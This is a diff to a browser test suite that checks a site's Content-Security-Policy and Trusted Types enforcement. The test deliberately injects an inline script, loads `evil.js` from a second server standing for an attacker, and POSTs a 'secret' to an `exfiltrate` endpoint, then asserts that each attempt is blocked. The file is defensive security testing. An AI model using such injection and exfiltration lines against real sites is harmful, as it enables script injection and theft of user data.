@@ -2,7 +2,8 @@
  * The Content-Security-Policy of the built site (scripts/csp.ts), as a static host serves it: the policy only in the
  * pages' `<meta>`, under a sub-path, cross-origin isolated (so onnxruntime starts its wasm threads). Normal use of the
  * app and the RAG page trips no rule; an injected script, a fetch to another origin and a hostile document's image and
- * handler are refused and reported, and a second server, standing for the attacker's, hears nothing.
+ * handler are refused and reported (Trusted Types first, the fetch directives behind them), and a second server,
+ * standing for the attacker's, hears nothing.
  * The dev and preview servers' header: csp-servers.test.ts.
  */
 import fs from 'node:fs';
@@ -16,6 +17,15 @@ import { openApp, type AppPage } from './app-page.ts';
 import { startOtherOrigin, watchPolicy, type OtherOrigin, type PolicyWatch } from './csp-page.ts';
 
 const skip = chromiumSkipReason();
+
+/** The part of the Trusted Types API the tests call in the page (TypeScript's DOM library does not declare it). */
+interface TrustedTypesForTests {
+  createPolicy(name: string, rules: Record<string, (input: string) => string>): {
+    createHTML(input: string): unknown;
+    createScript(input: string): unknown;
+    createScriptURL(input: string): unknown;
+  };
+}
 
 describe.skipIf(skip !== null)('the Content-Security-Policy of the built site', () => {
   let dir: string;
@@ -120,21 +130,35 @@ describe.skipIf(skip !== null)('the Content-Security-Policy of the built site', 
     try {
       await page.goto(site.url);
       const outcome = await page.evaluate(async (otherUrl) => {
-        const w = window as unknown as { __ran?: string };
+        const w = window as unknown as { __ran?: string; trustedTypes: TrustedTypesForTests };
+        const attempt = (step: () => void) => {
+          try {
+            step();
+            return 'done';
+          } catch (error) {
+            return (error as Error).name;
+          }
+        };
+        // Trusted Types refuse the plain strings; a policy that vouches for anything stands for a bug that got past them.
+        const bug = w.trustedTypes.createPolicy('a-bug', { createScript: (s: string) => s, createScriptURL: (s: string) => s });
         const inline = document.createElement('script');
-        inline.textContent = 'window.__ran = "inline"';
+        const inlineText = attempt(() => { inline.textContent = 'window.__ran = "inline"'; });
+        inline.textContent = bug.createScript('window.__ran = "inline"') as unknown as string;
         document.body.append(inline);
         const remote = document.createElement('script');
+        const remoteSrc = attempt(() => { remote.src = `${otherUrl}evil.js`; });
         const remoteDone = new Promise((resolve) => { remote.onerror = () => resolve('error'); remote.onload = () => resolve('loaded'); });
-        remote.src = `${otherUrl}evil.js`;
+        remote.src = bug.createScriptURL(`${otherUrl}evil.js`) as unknown as string;
         document.body.append(remote);
         const fetched = await fetch(`${otherUrl}exfiltrate?q=secret`, { method: 'POST', body: 'secret' }).then(() => 'sent', (e: Error) => e.name);
-        return { ran: w.__ran ?? null, remote: await remoteDone, fetched };
+        return { inlineText, remoteSrc, ran: w.__ran ?? null, remote: await remoteDone, fetched };
       }, other.url);
-      expect(outcome).toEqual({ ran: null, remote: 'error', fetched: 'TypeError' });
+      expect(outcome).toEqual({ inlineText: 'TypeError', remoteSrc: 'TypeError', ran: null, remote: 'error', fetched: 'TypeError' });
       const seen = (await watch.violations()).map((v) => `${v.disposition} ${v.directive} ${v.blocked.replace(/\?.*/, '')}`).sort();
       expect(seen).toEqual([
         `enforce connect-src ${other.url}exfiltrate`,
+        'enforce require-trusted-types-for trusted-types-sink',
+        'enforce require-trusted-types-for trusted-types-sink',
         `enforce script-src-elem ${other.url}evil.js`,
         'enforce script-src-elem inline',
       ]);
@@ -160,14 +184,24 @@ describe.skipIf(skip !== null)('the Content-Security-Policy of the built site', 
       expect(await watch.violations()).toEqual([]); // as text, nothing to refuse
       expect(watch.refusals).toEqual([]);
 
-      // A rendering bug that parsed a document as HTML: the policy is the second line of defence.
-      await hostileApp.page.evaluate((html) => {
+      // A rendering bug that parses a document as HTML: Trusted Types refuse the string. One that goes through a
+      // policy (as Lit's unsafeHTML would): the markup lands, and the fetch directives refuse what it asks for.
+      const parsed = await hostileApp.page.evaluate((html) => {
         const box = document.createElement('div');
-        box.innerHTML = html.join('');
         document.body.append(box);
+        let plain = 'parsed';
+        try {
+          box.innerHTML = html.join('');
+        } catch (error) {
+          plain = (error as Error).name;
+        }
+        const bug = (window as unknown as { trustedTypes: TrustedTypesForTests }).trustedTypes.createPolicy('a-rendering-bug', { createHTML: (s: string) => s });
+        box.innerHTML = bug.createHTML(html.join('')) as unknown as string;
+        return { plain, elements: box.querySelectorAll('img, iframe, link').length };
       }, hostile);
+      expect(parsed).toEqual({ plain: 'TypeError', elements: 3 });
       await expect.poll(async () => (await watch.violations()).map((v) => v.directive).sort(), { timeout: 10_000 })
-        .toEqual(['frame-src', 'img-src', 'script-src-attr', 'style-src-elem']);
+        .toEqual(['frame-src', 'img-src', 'require-trusted-types-for', 'script-src-attr', 'style-src-elem']);
       expect(other.requests).toEqual([]);
     } finally {
       await hostileApp.page.close();
